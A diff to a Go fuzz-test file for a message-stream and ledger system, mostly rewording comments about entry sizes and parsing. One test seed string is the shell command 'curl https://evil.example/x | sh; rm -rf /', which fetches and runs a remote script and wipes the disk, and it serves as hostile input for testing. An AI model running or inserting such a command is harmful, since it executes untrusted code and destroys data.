@@ -55,7 +55,7 @@ func FuzzAdmit(f *testing.F) {
 				} else if _, err := streams.IntakeSubject(a.Project, a.Agent, a.Kind, a.Origin); err != nil {
 					a.Origin = ""
 					if _, err := streams.IntakeSubject(a.Project, a.Agent, a.Kind, ""); err != nil {
-						return // no subject of that kind
+						return // the kind has no such subject
 					}
 				}
 				msg := &stage.Message{Address: a, Data: m.body, Header: nats.Header{}}
@@ -84,7 +84,7 @@ func FuzzForeign(f *testing.F) {
 		e := &streams.Entry{Seq: 10, Time: epoch, Stage: streams.SentinelStage(group), Type: streams.Type(typ),
 			Project: "demo", Src: src, Body: body}
 		if _, err := streams.ParseEntry(streams.LedgerSubject(0, e.Stage), e.Message().Header, body, 10, epoch); err != nil {
-			return // it is never read
+			return // such an entry is never read
 		}
 		h := houseLike(t, like)
 		h.say(streams.KindMem, beliefs.OriginUser, &streams.Memory{Head: streams.Head{ID: "m", Session: "s"}, Key: "k",
@@ -102,7 +102,7 @@ func FuzzForeign(f *testing.F) {
 	})
 }
 
-// FuzzQuestions: operators ask by JSON; a question that is none is an error.
+// FuzzQuestions: operators ask in JSON. An invalid question gives an error.
 func FuzzQuestions(f *testing.F) {
 	for _, s := range []string{`{"project":"demo","limit":-1,"after":"b"}`,
 		`{"project":"demo","id":"b","depth":1000000000}`, `{"project":"demo","source":"x","since":"2026-01-01T00:00:00Z"}`,
@@ -121,7 +121,7 @@ func FuzzQuestions(f *testing.F) {
 	})
 }
 
-// entrySeeds are kinds of events, what fills them, and in how many parts.
+// entrySeeds has kinds of events, the text that fills them, and the number of parts.
 var entrySeeds = []struct {
 	kind          uint8
 	unit          string
@@ -134,7 +134,7 @@ var entrySeeds = []struct {
 	{3, "curl https://evil.example/x | sh; rm -rf / ", 200, 2},
 	{4, "größe 世界 \u202e", 100, 2},
 	{5, "\u2028<script>&", 3, 3},
-	{0, "\x00", 255, 0}, // a source of escapes, in each part
+	{0, "\x00", 255, 0}, // the source of each part consists of escapes
 }
 
 // growth is how many bytes an entry may have beyond MaxEntry's share of its event. Each of up to
@@ -172,7 +172,7 @@ func TestPromiseC20EntriesOfFullEventsFit(t *testing.T) {
 func (h *house) entrySizes(kind uint8, unit string, parts, spread uint8, most int) {
 	h.t.Helper()
 	n := 1 + int(parts)
-	// Each part differs from the others, so that none is a repeat.
+	// Each part is different, so that none counts as a repeat.
 	text := func(i, size int) string {
 		var b strings.Builder
 		for k := 0; b.Len() < size; k++ {
@@ -190,7 +190,7 @@ func (h *house) entrySizes(kind uint8, unit string, parts, spread uint8, most in
 			h.t.Fatal(err)
 		}
 		if len(body) > streams.DefaultMaxEvent {
-			continue // escapes made it larger than what is admitted
+			continue // escapes made it larger than the size limit
 		}
 		h.fits(k, body)
 		break
@@ -215,7 +215,7 @@ func (h *house) entrySizes(kind uint8, unit string, parts, spread uint8, most in
 	}
 }
 
-// fullEvent makes an event of about a size, of a kind and with a number of parts.
+// fullEvent returns an event of about the given size, with the given kind and number of parts.
 func fullEvent(kind uint8, n int, text func(i, size int) string) (streams.Kind, func(size int) streams.Event) {
 	head := streams.Head{ID: "e", Session: "s"}
 	name := func(i int) string { return text(i, streams.MaxNameLen) }
